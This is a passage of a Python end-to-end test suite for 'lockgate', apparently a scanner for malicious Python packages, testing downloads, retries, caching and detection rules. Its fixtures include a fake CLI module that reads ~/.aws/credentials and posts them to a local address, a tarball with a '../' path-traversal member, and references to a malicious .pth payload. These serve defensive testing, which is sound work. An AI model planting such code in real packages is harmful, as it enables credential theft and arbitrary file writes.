        "findings": [finding("exec.decode-exec", path="demo_pkg-1.0/setup.py")],
    })


@case
def case_scan_json_shape(t):
    b = benign()
    path = os.path.join(t.tmp, b.filename)
    with open(path, "wb") as f:
        f.write(b.data)
    res = t.run("scan", "--format", "json", path)
    t.expect(res, rc=0, subset={
        "schema": 1, "tool": {"name": "lockgate", "version": "0.1.0"},
        "verdict": "pass", "changes": [], "artifacts": [{"sha256": b.sha256, "verdict": "pass"}],
        "findings": ANY, "errors": [],
    })
    doc = res.json
    if len(doc["artifacts"]) != 1 or not isinstance(doc.get("findings"), list):
        raise Fail("expected one artifact and a findings array\n" + res.describe())
    if not str(doc["artifacts"][0].get("file", "")).endswith(b.filename):
        raise Fail("artifact file should name the scanned path\n" + res.describe())


@case
def case_scan_unsafe_member(t):
    """An sdist with a ../ member is archive.unsafe-member (critical)."""
    raw = L._tar_gz([("evil-1.0/PKG-INFO", L.pkg_info("evil", "1.0")),
                     ("evil-1.0/../../outside.txt", "x\n")])
    path = os.path.join(t.tmp, "evil-1.0.tar.gz")
    with open(path, "wb") as f:
        f.write(raw)
    res = t.run("scan", "--format", "json", path)
    t.expect(res, rc=1, subset={"verdict": "block",
                                "findings": [finding("archive.unsafe-member", severity="critical")]})
    if os.path.exists(os.path.join(os.path.dirname(t.tmp), "outside.txt")):
        raise Fail("scan wrote outside.txt next to the temp dir")


@case
def case_scan_missing_path(t):
    """A path that cannot be read is incomplete (never a silent pass)."""
    missing = os.path.join(t.tmp, "nope-1.0.tar.gz")
    res = t.run("scan", "--format", "json", missing)
    t.expect(res, rc=2, subset={"verdict": "incomplete", "errors": [{"message": ANY}],
                                "artifacts": [{"verdict": "incomplete"}]})


@case
def case_help_version(t):
    for argv in (["--help"], ["version"]):
        res = t.run(*argv)
        t.expect(res, rc=0, note=" ".join(argv))
        if argv == ["version"] and "0.1.0" not in res.stdout:
            raise Fail("version does not print 0.1.0\n" + res.describe())
        if argv == ["--help"] and "check" not in res.stdout + res.stderr:
            raise Fail("--help does not mention `check`\n" + res.describe())


@case
def case_usage_errors(t):
    for argv in (["check", "--no-such-option"], ["--no-such-option"], ["no-such-command"],
                 ["check", "--format", "yaml"], ["check", "--head", "HEAD", "--staged"]):
        res = t.run(*argv)
        t.expect(res, rc=3, note=" ".join(argv))


@case
def case_corpus_scan(t):
    """A real malware sample goes only through `lockgate scan`, which must leave no file behind."""
    if not os.path.exists(CORPUS_INDEX):
        raise Skip("corpus absent (%s)" % CORPUS_INDEX)
    with open(CORPUS_INDEX, newline="") as f:
        first = next(csv.DictReader(f, delimiter="\t"))
    sample = os.path.join(os.path.dirname(CORPUS_INDEX), first["file"])
    dirs = {k: t.mk("empty-" + k.lower()) for k in ("CWD", "HOME", "TMPDIR", "XDG_CACHE_HOME")}
    res = t.run("scan", "--format", "json", sample, cwd=dirs["CWD"],
                env={"HOME": dirs["HOME"], "TMPDIR": dirs["TMPDIR"],
                     "XDG_CACHE_HOME": dirs["XDG_CACHE_HOME"]})
    t.expect(res, rc={0, 1, 2}, subset={"changes": [], "artifacts": [ANY]})
    if len(res.json["artifacts"]) != 1:
        raise Fail("expected exactly one artifact\n" + res.describe())
    left = {k: os.listdir(d) for k, d in dirs.items() if os.listdir(d)}
    if left:
        raise Fail("scan left files behind: %r" % left)
    print("    corpus sample %s: exit %d, verdict %s" % (first["file"], res.rc,
                                                         res.json.get("verdict")))


# ------------------------------------------------------ fetcher cases ----

def _pins(*arts):
    return reqs(*(pin(a, n, v) for a, n, v in arts))


@case
def case_parallel_downloads(t):
    """Six changed packages: every file is fetched over one HTTP/2
    connection (multiplexed), and all pass."""
    srv = t.server()
    arts = []
    for i in range(6):
        name = "par-pkg%d" % i
        a = L.sdist(name, "1.0")
        srv.add(name, "1.0", [a])
        arts.append((a, name, "1.0"))
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": _pins(*arts)})
    res = t.check(repo, "--jobs", "4", index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                "artifacts": [{"package": n, "verdict": "pass",
                                               "read": "full"} for _, n, _ in arts]})
    files = srv.requested("/files/")
    if sorted(r.path for r in files) != sorted("/files/" + a.filename for a, _, _ in arts):
        raise Fail("expected each file once; log:\n%s" % "\n".join(
            "%s %s %d" % (r.method, r.path, r.status) for r in srv.requests()))
    if any(r.protocol != "HTTP/2.0" for r in files):
        raise Fail("files not fetched over HTTP/2: %r" % [r.protocol for r in files])
    if len({r.connection for r in files}) != 1:
        raise Fail("files not multiplexed on one connection: %r" %
                   [r.connection for r in files])


@case
def case_jobs_usage(t):
    for bad in ("0", "x", "1000"):
        res = t.run("check", "--jobs", bad)
        t.expect(res, rc=3, note="--jobs " + bad)
    res = t.run("check", "--max-file-size", "1T")
    t.expect(res, rc=3, note="--max-file-size 1T")


def _wait_for(pred, timeout=20.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if pred():
            return True
        time.sleep(0.05)
    return False


@case
def case_retry_after_503(t):
    """The file answers 503 with Retry-After: 1 until the test heals it;
    lockgate waits, tries again and passes."""
    flag = os.path.join(t.tmp, "fail-flag")
    open(flag, "w").close()
    srv = t.server(files_conf=L.fail_files(flag))
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    argv = [t.bin] + t.check_argv(repo, index_url=srv.index_url)
    p = subprocess.Popen(argv, env=t.env(), stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
    try:
        seen = _wait_for(lambda: any(r.status == 503 for r in srv.requested("/files/")))
        os.remove(flag)
        out, err = p.communicate(timeout=RUN_TIMEOUT)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    res = Result(argv, p.returncode, out.decode(errors="replace"),
                 err.decode(errors="replace"), 0.0)
    if not seen:
        raise Fail("no 503 was ever served\n" + res.describe())
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                "artifacts": [{"sha256": b.sha256, "verdict": "pass"}]})
    got = [r.status for r in srv.requested("/files/" + b.filename)]
    if got[0] != 503 or got[-1] != 200:
        raise Fail("expected 503 then 200, got %r" % got)


@case
def case_permanent_503(t):
    """A file that always answers 503: retried, then incomplete (exit 2),
    never a pass."""
    flag = os.path.join(t.tmp, "fail-flag")
    open(flag, "w").close()
    srv = t.server(files_conf=L.fail_files(flag))
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "artifacts": [{"package": BENIGN, "verdict": "incomplete"}],
                                "errors": [{"package": BENIGN, "message": ANY}]})
    msg = res.json["errors"][0]["message"]
    if "503" not in msg or "tries" not in msg:
        raise Fail("error message should name the status and the tries: %r" % msg)
    tries = len(srv.requested("/files/" + b.filename))
    if tries != 4:
        raise Fail("expected 1 try + 3 retries, got %d requests" % tries)


@case
def case_not_found_no_retry(t):
    """A 404 on the file is final: one request, incomplete."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    os.remove(os.path.join(srv.root, "files", b.filename))
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete"})
    if len(srv.requested("/files/" + b.filename)) != 1:
        raise Fail("a 404 was retried")


@case
def case_size_cap(t):
    """A file over --max-file-size is incomplete, never truncated or passed."""
    srv = t.server()
    import random
    b = L.sdist(BENIGN, "1.0", extra={"blob.bin": random.Random(2).randbytes(20000)})
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, "--max-file-size", "8k", index_url=srv.index_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "artifacts": [{"verdict": "incomplete", "sha256": None}],
                                "errors": [{"package": BENIGN, "message": ANY}]})
    if "larger than 8192 bytes" not in res.json["errors"][0]["message"]:
        raise Fail("the message should name the cap\n" + res.describe())


def _lazy_setup(t, files_conf="", pth=None, purelib=False):
    srv = t.server(files_conf=files_conf)
    w = L.big_wheel("lazy-pkg", "1.0", pth=pth, purelib=purelib)
    srv.add("lazy-pkg", "1.0", [w])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(w, "lazy-pkg", "1.0") + "\n"})
    return srv, w, repo


def _file_bytes(srv, w):
    return sum(r.sent for r in srv.requested("/files/" + w.filename))


@case
def case_lazy_wheel_blocked(t):
    """A 1.3 MB platform wheel is read by range requests (tail, members),
    a small fraction of its bytes, and its malicious .pth still blocks."""
    srv, w, repo = _lazy_setup(t, pth={"lazy_init.pth": L.MALICIOUS_PTH})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "artifacts": [{"package": "lazy-pkg", "file": w.filename, "read": "lazy",
                       "sha256": w.sha256, "verdict": "block"}],
        "findings": [finding("wheel.pth-exec-line", path="lazy_init.pth",
                             severity=OneOf(*BLOCKING))]})
    got = srv.requested("/files/" + w.filename)
    if not got or any(r.status != 206 or not r.range for r in got):
        raise Fail("expected only range requests: %r" % got)
    sent = _file_bytes(srv, w)
    if sent * 5 > len(w.data):
        raise Fail("lazy read took %d of %d bytes" % (sent, len(w.data)))


@case
def case_lazy_wheel_big_directory(t):
    """A central directory larger than the 64 KiB tail is fetched by its
    own range (round 2); the .pth still blocks."""
    import random
    srv = t.server()
    extra = {"lazy_pkg/mod_%04d_%s.py" % (i, "x" * 60): "X = %d\n" % i for i in range(1500)}
    extra["lazy_pkg/_blob.dat"] = random.Random(3).randbytes(1_300_000)
    w = L.wheel("lazy-pkg", "1.0", pth={"lazy_init.pth": L.MALICIOUS_PTH}, extra=extra,
                purelib=False)
    srv.add("lazy-pkg", "1.0", [w])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(w, "lazy-pkg", "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "artifacts": [{"read": "lazy", "verdict": "block"}],
        "findings": [finding("wheel.pth-exec-line", path="lazy_init.pth")]},
        no_findings=[{"rule": "wheel.record-mismatch"}])
    ranges = [r.range for r in srv.requested("/files/")]
    if not any(rg.startswith("bytes=") and not rg.startswith("bytes=-") for rg in ranges) \
            or len(ranges) < 3:
        raise Fail("expected tail, directory and member ranges: %r" % ranges)


@case
def case_lazy_entry_point_module(t):
    """A lazily read wheel whose console script shadows `pip`: the module
    entry_points.txt names is read too (round 4), so the shadow is judged
    with what the module does, as in a whole read."""
    import random
    cli = ("import os, urllib.request\n"
           "def main():\n"
           "    data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
           "    urllib.request.urlopen('http://127.0.0.1:9/c', data.encode())\n")
    extra = {"lazy_pkg/cli.py": cli,
             "lazy_pkg/_blob.dat": random.Random(4).randbytes(1_300_000),
             "lazy_pkg-1.0.dist-info/entry_points.txt":
                 "[console_scripts]\npip = lazy_pkg.cli:main\n"}
    srv = t.server()
    w = L.wheel("lazy-pkg", "1.0", extra=extra, purelib=False)
    srv.add("lazy-pkg", "1.0", [w])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(w, "lazy-pkg", "1.0") + "\n"})
    lazy = t.check(repo, index_url=srv.index_url)
    full = t.check(repo, "--full-download", index_url=srv.index_url)
    want = finding("wheel.console-script-shadow", severity="high")
    t.expect(lazy, rc=1, subset={"artifacts": [{"read": "lazy", "verdict": "block"}],
                                 "findings": [want]})
    t.expect(full, rc=1, subset={"artifacts": [{"read": "full"}], "findings": [want]})
    if not any(f["path"] == "lazy_pkg/cli.py" for f in lazy.json["findings"]):
        raise Fail("the entry point's module was not scanned\n" + lazy.describe())


@case
def case_lazy_wheel_benign(t):
    """A benign lazily read wheel passes with no RECORD complaint."""
    srv, w, repo = _lazy_setup(t)
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                "artifacts": [{"read": "lazy", "verdict": "pass"}]},
             no_findings=[{"rule": "wheel.record-mismatch"}])


@case
def case_lazy_and_full_mixed(t):
    """A lazy platform wheel and a malicious sdist in one change: the wheel
    is read by range, the sdist whole (in the same first batch), and the
    sdist blocks."""
    srv = t.server()
    w = L.big_wheel("lazy-pkg", "1.0")
    m = L.demo_sdist()
    srv.add("lazy-pkg", "1.0", [w])
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": _pins((w, "lazy-pkg", "1.0"), (m, "demo-pkg", "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"verdict": "block", "artifacts": [
        {"package": "lazy-pkg", "read": "lazy", "verdict": "pass"},
        {"package": "demo-pkg", "read": "full", "verdict": "block", "sha256": m.sha256}]})


@case
def case_lazy_fallback_no_ranges(t):
    """nginx with max_ranges 0 ignores ranges: lockgate stops the 200 and
    downloads the wheel in full; still blocked."""
    srv, w, repo = _lazy_setup(t, files_conf="max_ranges 0;",
                               pth={"lazy_init.pth": L.MALICIOUS_PTH})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "artifacts": [{"file": w.filename, "read": "full", "verdict": "block"}],
        "findings": [finding("wheel.pth-exec-line", path="lazy_init.pth")]})
    if not any(r.status == 200 and not r.range for r in srv.requested("/files/")):
        raise Fail("expected a whole download after the ignored range")


@case
def case_lazy_purelib_is_full(t):
    """A Root-Is-Purelib wheel is read in full (wheel.native-in-purelib
    needs every member's first bytes)."""
    srv, w, repo = _lazy_setup(t, purelib=True)
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"artifacts": [{"read": "full", "sha256": w.sha256}]})


@case
def case_small_wheel_one_request(t):
    """A wheel smaller than the 64 KiB tail: the one range request got all
    of it, so it is hashed and verified like a whole download."""
    w, res = _wheel_case(t, "pthdemo", "1.0", {"pthdemo_init.pth": L.MALICIOUS_PTH})
    t.expect(res, rc=1, subset={"artifacts": [{"read": "full", "sha256": w.sha256,
                                               "verdict": "block"}]})


@case
def case_small_wheel_swapped(t):
    """Lock and index agree, the server sends another small wheel: the
    bytes read are hashed, so hash.mismatch blocks."""
    srv = t.server()
    w = L.wheel("swapwheel", "1.0")
    other = L.wheel("swapwheel", "1.0", module="# swapped\n").data
    srv.add("swapwheel", "1.0", [w], serve_override={w.filename: other})
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(w, "swapwheel", "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"verdict": "block", "findings": [
        finding("hash.mismatch", severity="critical", file=w.filename)]})


@case
def case_full_download_flag(t):
    """--full-download: no range request at all."""
    srv, w, repo = _lazy_setup(t, pth={"lazy_init.pth": L.MALICIOUS_PTH})
    res = t.check(repo, "--full-download", index_url=srv.index_url)
    t.expect(res, rc=1, subset={"artifacts": [{"read": "full", "verdict": "block"}]})
    if any(r.range for r in srv.requested("/files/")):
        raise Fail("--full-download sent a Range request")


@case
def case_cache_stats_clean(t):
    """check fills the cache; a second check reads it (no file request);
    cache stats counts it; clean --older-than keeps it; clean empties it."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    cache = t.mk("shared-cache")
    t.expect(t.check(repo, "--cache-dir", cache, index_url=srv.index_url), rc=0)
    before = len(srv.requested("/files/"))
    t.expect(t.check(repo, "--cache-dir", cache, index_url=srv.index_url), rc=0)
    if len(srv.requested("/files/")) != before:
        raise Fail("the second run downloaded the cached file again")
    res = t.run("cache", "stats", "--cache-dir", cache)
    t.expect(res, rc=0)
    if "sha256   1 entries, %d bytes" % len(b.data) not in res.stdout:
        raise Fail("stats\n" + res.describe())
    res = t.run("cache", "clean", "--older-than", "1", "--cache-dir", cache)
    t.expect(res, rc=0)
    if "sha256   0 entries" not in res.stdout:
        raise Fail("clean --older-than 1 removed a fresh entry\n" + res.describe())
    res = t.run("cache", "clean", "--cache-dir", cache)
    t.expect(res, rc=0)
    if "sha256   1 entries" not in res.stdout:
        raise Fail("clean\n" + res.describe())
    res = t.run("cache", "stats", "--cache-dir", cache)
    if "total    0 entries" not in res.stdout:
        raise Fail("cache not empty after clean\n" + res.describe())
    for bad in (["cache"], ["cache", "frobnicate"], ["cache", "clean", "--older-than", "x"]):
        t.expect(t.run(*bad, "--cache-dir", cache), rc=3, note=" ".join(bad))


def _fault_case(t, plan):
    """benign-pkg's sdist served by the fault server with plan."""
    srv = t.server()
    b = benign()
    fs = t.fault_server()
    fs.route("/f/" + b.filename, b.data, plan)
    srv.add(BENIGN, "1.0", [b], file_urls={b.filename: fs.url("/f/" + b.filename)})
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    return b, fs, t.check(repo, index_url=srv.index_url)


@case
def case_fault_cut_then_ok(t):
    """A connection cut mid-body is retried; the second try passes."""
    b, fs, res = _fault_case(t, ["cut", "ok"])
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                "artifacts": [{"sha256": b.sha256}]})
    if fs.hits("/f/" + b.filename) != 2:
        raise Fail("expected 2 requests, got %d" % fs.hits("/f/" + b.filename))


@case
def case_fault_cut_always(t):
    """A connection cut on every try: incomplete, never a partial scan."""
    b, fs, res = _fault_case(t, ["cut"])
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "artifacts": [{"verdict": "incomplete", "sha256": None}]})


@case
def case_fault_429_http_date(t):
    """429 with Retry-After as an HTTP date: waited for, then 200."""
    b, fs, res = _fault_case(t, ["429-date", "ok"])
    t.expect(res, rc=0, subset={"verdict": "pass"})
    if res.secs < 0.9:
        raise Fail("Retry-After (HTTP date, ~2 s) was not waited for: %.2fs" % res.secs)


@case
def case_fault_redirect_loop(t):
    """A redirect loop ends at the redirect cap: incomplete."""
    b, fs, res = _fault_case(t, ["redirect"])
    t.expect(res, rc=2, subset={"verdict": "incomplete"})
    if fs.hits("/f/" + b.filename) > 10:
        raise Fail("followed %d redirects" % fs.hits("/f/" + b.filename))


@case
def case_fault_huge_length(t):
    """A 2 GB Content-Length is refused before any body: incomplete, fast."""
    b, fs, res = _fault_case(t, ["huge"])
    t.expect(res, rc=2, subset={"verdict": "incomplete"})
    if "larger than" not in res.json["errors"][0]["message"]:
        raise Fail("the message should name the cap\n" + res.describe())


def _run_with_tty_stderr(t, argv, env=None):
    """Runs lockgate with stderr on a pseudo-terminal; returns (rc, stderr)."""
    import pty
    import select
    master, slave = pty.openpty()
    p = subprocess.Popen([t.bin] + argv, env=t.env(env), stdin=subprocess.DEVNULL,
                         stdout=subprocess.PIPE, stderr=slave)
    os.close(slave)
    chunks = []
    while True:
        r, _, _ = select.select([master], [], [], 0.1)
        if r:
            try:
                data = os.read(master, 65536)
            except OSError:
                data = b""
            if not data and p.poll() is not None:
                break
            chunks.append(data)
        elif p.poll() is not None:
            break
    p.communicate(timeout=RUN_TIMEOUT)
    os.close(master)
    return p.returncode, b"".join(chunks).decode(errors="replace")


@case
def case_progress_tty(t):
    """On a terminal, check draws a progress line on stderr (files, bytes,
    rate); --quiet silences it; NO_COLOR drops the bold."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    def argv():  # a fresh cache each time, so there is something to download
        return t.check_argv(repo, index_url=srv.index_url)
    rc, err = _run_with_tty_stderr(t, argv())
    if rc != 0 or "downloading 1/1 files" not in err or "/s" not in err \
            or "\033[1m" not in err:
        raise Fail("expected a bold progress line, rc %d, stderr %r" % (rc, err))
    rc, err = _run_with_tty_stderr(t, argv() + ["--quiet"])
    if rc != 0 or "downloading" in err:
        raise Fail("--quiet still drew progress: %r" % err)
    rc, err = _run_with_tty_stderr(t, argv(), env={"NO_COLOR": "1"})
    if rc != 0 or "downloading" not in err or "\033[1m" in err:
        raise Fail("NO_COLOR: expected progress without bold: %r" % err)


@case
def case_quiet_not_tty(t):
    """stderr is not a terminal here: no progress line, with or without --quiet."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0)
    if "downloading" in res.stderr or "\r" in res.stderr:
        raise Fail("progress written to a non-terminal\n" + res.describe())


# ---------------------------------------------------------------- main ----

def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--bin", help="path to the lockgate binary")
    ap.add_argument("--case", action="append", help="case name (repeatable); default: all")
    ap.add_argument("--list", action="store_true", help="print case names and exit")
    ap.add_argument("--keep", action="store_true", help="keep temp dirs of failed cases")
    args = ap.parse_args()
    if args.list:
        print("\n".join(CASES))
        return 0
    if not args.bin:
        ap.error("--bin is required")
    binary = os.path.abspath(args.bin)
    names = args.case or list(CASES)
    unknown = [n for n in names if n not in CASES]
    if unknown:
        ap.error("unknown case(s): %s (see --list)" % ", ".join(unknown))
    if not os.access(binary, os.X_OK):
        print("FAIL: %s is not an executable" % binary)
        print("0 passed, %d failed" % len(names))
        return 1
    for tool in ("openssl", "git"):
        if not shutil.which(tool):
            print("SKIP: %s not found" % tool)
            return 77
    if not (os.environ.get("LG_NGINX") or shutil.which("nginx") or os.path.exists("/usr/sbin/nginx")):
        print("SKIP: nginx not found (set LG_NGINX)")
        return 77

    passed, failed, skipped = [], [], []
    run_dir = tempfile.mkdtemp(prefix="lg-e2e-")
    keep = False
    try:
        os.makedirs(os.path.join(run_dir, "ca"))
        ca = L.TestCA(os.path.join(run_dir, "ca"))
        for name in names:
            tmp = tempfile.mkdtemp(prefix=name + "-", dir=run_dir)
            t = Case(name, binary, ca, tmp)
            t0 = time.monotonic()
            try:
                CASES[name](t)
                passed.append(name)
                print("PASS %s (%.1fs)" % (name, time.monotonic() - t0), flush=True)
            except Skip as e:
                skipped.append(name)
                print("SKIP %s: %s" % (name, e), flush=True)
            except Fail as e:
                failed.append(name)
                print("FAIL %s\n%s" % (name, _indent(str(e))), flush=True)
            except Exception:
                failed.append(name)
                print("FAIL %s (harness error)\n%s" % (name, _indent(traceback.format_exc())),
                      flush=True)
            finally:
                t.close()
            if name in failed and args.keep:
                keep = True
                print("    kept %s" % tmp)
            elif os.path.isdir(tmp):
                shutil.rmtree(tmp, ignore_errors=True)
    finally:
        if not keep:
            shutil.rmtree(run_dir, ignore_errors=True)
    if failed:
        print("failed: " + " ".join(failed))
    if skipped:
        print("skipped: " + " ".join(skipped))
    print("%d passed, %d failed" % (len(passed), len(failed)))
    if failed:
        return 1
    return 77 if skipped and not passed else 0


if __name__ == "__main__":
    sys.exit(main())
